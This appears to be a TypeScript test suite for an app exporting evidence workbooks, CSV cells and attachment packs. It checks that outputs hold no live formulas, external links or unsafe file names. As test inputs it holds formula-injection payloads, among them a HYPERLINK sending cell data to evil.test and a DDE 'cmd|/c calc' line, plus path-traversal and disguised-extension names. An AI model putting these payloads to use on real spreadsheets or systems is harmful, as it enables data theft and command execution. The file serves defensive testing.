import { strFromU8, unzipSync } from 'fflate';
import * as fc from 'fast-check';
import { describe, expect, test, vi } from 'vitest';
import { isFileNamePattern } from '../../main/central/folder/file-name.ts';
import { makePack } from '../../main/evidence/pack.ts';
import { writeSheets } from '../../main/evidence/sheets.ts';
import type { EvidenceInput } from '../../main/evidence/index.ts';
import { writeTemplate } from '../../main/intake/template.ts';
import { practiceSheet } from '../../renderer/features/intake/sheet.ts';
import { calls } from '../../shared/contract/index.ts';
import { plainCell } from '../../shared/documents/index.ts';
import { attachmentName, packFiles } from '../../shared/evidence/index.ts';
import { civilDate } from '../../shared/time.ts';
import { evidenceSample } from '../support/evidence-samples.ts';

/** Files that go out: no program of their reader's computes, calls or overwrites anything. */

vi.setConfig({ testTimeout: 180_000 });

const formulas = [
  '=HYPERLINK("http://evil.test/?"&A1,"열기")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

const formula = (at: number): string => formulas[at % formulas.length] ?? '';

/** Every text that others can choose becomes a formula. */
function poisoned(): EvidenceInput {
  const { input } = evidenceSample({ attempts: 8, filings: 8 });
  return {
    ...input,
    office: input.office === null ? null : { ...input.office, name: formula(0) },
    attempts: input.attempts.map((each, at) => ({ ...each, answer: formula(at) })),
    filings: input.filings.map((each, at) => ({
      ...each,
      reference: formula(at),
      importer: formula(at + 1),
      goods: formula(at + 2),
      billOfLading: formula(at + 3),
      receiptNo: formula(at + 4),
    })),
    remarks: input.remarks.map((each) => ({
      ...each,
      text: formula(0),
      link: formula(1),
      ticket: formula(2),
      file: { name: `../../${formula(3)}/../evil.exe`, digest: 'x', size: 1 },
    })),
  };
}

/** Parts of a workbook that make a spreadsheet program compute or fetch something. */
function livingParts(bytes: Uint8Array): string[] {
  return Object.entries(unzipSync(bytes)).flatMap(([name, content]) => {
    const text = strFromU8(content);
    const isLiving =
      /externalLink|vbaProject|connections|queryTable|customXml/i.test(name) ||
      /<f[\s>]|t="str"|<hyperlink|TargetMode="External"|<!DOCTYPE|<definedName\s/.test(text);
    return isLiving ? [name] : [];
  });
}

describe('a workbook', () => {
  test('of evidence holds every text as text, whatever it begins with', async () => {
    const bytes = await writeSheets(poisoned());
    expect(livingParts(bytes)).toEqual([]);
    const texts = Object.entries(unzipSync(bytes))
      .map(([, content]) => strFromU8(content))
      .join('');
    // It is all there, and harmless.
    expect(texts).toContain('HYPERLINK');
    expect(texts).toContain('cmd|');
  });

  test.each(['import', 'export'] as const)('to fill in for %s computes nothing', async (kind) => {
    for (const language of ['ko', 'en'] as const)
      expect(livingParts(await writeTemplate(kind, language))).toEqual([]);
  });

  test('with a formula is noticed by this test', () => {
    expect(/<f[\s>]/.test('<c r="A1"><f>1+1</f></c>')).toBe(true);
  });
});

describe('a cell of CSV', () => {
  test.each(formulas)('%j is no formula', (text) => {
    expect(plainCell(text)).toBe(`'${text}`);
  });

  test.each(['', '-12', '+3.5', '가나다', '1=1', 'a@b.kr', "'=1", '2025-12-01'])(
    '%j stands as it is',
    (text) => expect(plainCell(text)).toBe(text),
  );

  test('never begins a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = plainCell(text);
        expect(/^[=@\t\r]/.test(cell)).toBe(false);
        expect(/^[+-]/.test(cell) && !/^[+-]\d/.test(cell)).toBe(false);
      }),
      { numRuns: 1000 },
    );
  });

  test('in the sheet to practise with is none', () => {
    const sheet = practiceSheet('ko', {
      count: 3,
      seed: 5,
      today: civilDate('2025-12-01'),
      prefix: '=1+1',
    });
    const cells = sheet.split(/[\r\n,]+/).map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=@+]/.test(cell))).toEqual([]);
    expect(sheet).toContain("'=1+1");
  });
});

describe('names of files', () => {
  test('in a pack are ours alone, whatever a remark’s file is called', async () => {
    const { journal, attachments } = evidenceSample({ attempts: 8, filings: 8 });
    const keys = { publicKey: 'AA', fingerprint: 'AA' };
    const parts = { input: poisoned(), journal, attachments, page: 'x', ...keys };
    const pack = await makePack(parts, () => '00');
    const names = [...Object.values<string>(packFiles), ...attachments.map(({ name }) => name)];
    expect(pack.files.map(({ name }) => name).filter((name) => !names.includes(name))).toEqual([]);
    for (const name of Object.keys(unzipSync(pack.zip))) expect(names).toContain(name);
    for (const name of names) expect(name).not.toMatch(/[/\\:]|\.\./);
  });

  test.each([
    '../../evil.exe',
    'C:\\autostart\\a.bat',
    'report.pdf.js',
    'a.html',
    'x.pdf\u0000.exe',
    '.pdf/../x',
    '\u202Efdp.exe',
    'a.svg',
    'a.lnk',
    '',
  ])('an attachment called %j is nothing that a click runs', (name) => {
    expect(attachmentName(12, name)).toBe('첨부-12.bin');
  });

  test('an attachment that is only shown keeps its ending', () => {
    expect(attachmentName(12, '../공지 1.PDF')).toBe('첨부-12.pdf');
    expect(attachmentName(3, 'a.hwpx')).toBe('첨부-3.hwpx');
  });

  test.each([
    '../{number}{part}.xml',
    '{number}/../{part}.xml',
    '..\\{number}{part}.xml',
    'C:{number}{part}.xml',
    '{number}{part}.xml\u0000.txt',
    '.{number}{part}',
    '{number}{part}.xml ',
    '{number}{part}|calc',
  ])('%j is no name for a document in the sending folder', (pattern) => {
    expect(isFileNamePattern(pattern)).toBe(false);
  });

  test('of drills lead to no other folder', () => {
    for (const id of ['..', '.', '', 'a/b', '../x', 'a\\b', 'a\u0000', 'a'.repeat(61), 'A', ' a'])
      for (const name of ['drill.sheet', 'drill.remove'] as const)
        expect(calls[name].input.safeParse({ id }).success, id).toBe(false);
  });
});
